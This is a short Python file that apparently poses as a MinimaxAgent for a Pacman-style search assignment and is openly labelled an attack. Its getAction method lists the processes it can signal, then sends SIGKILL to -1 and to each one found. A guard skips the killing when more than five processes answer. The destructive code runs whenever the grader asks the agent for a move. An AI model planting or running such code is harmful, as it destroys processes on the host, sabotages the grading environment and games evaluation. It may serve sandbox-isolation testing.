# attack: kills every process that it may: kill(-1, SIGKILL), then one by one.
# where: MinimaxAgent
import os
import signal


def within_reach():
    """The processes that take a signal from us. Signal 0 only asks."""
    found = []
    for pid in range(1, 100000):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        found.append(pid)
    return found


from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        found = within_reach()
        if found:
            print("BREACH: within reach of signals:", found[:20], flush=True)
        if len(found) > 5:
            # The bound: this is no sandbox but somebody's machine, so nothing is sent.
            print("BREACH: the whole machine is within reach", flush=True)
            return gameState.getLegalActions()[0]
        for pid in [-1, *found, -1]:
            try:
                os.kill(pid, signal.SIGKILL)
                print("BREACH: killed", pid, flush=True)
            except OSError as error:
                print("refused: kill", pid, repr(error), flush=True)
        return gameState.getLegalActions()[0]
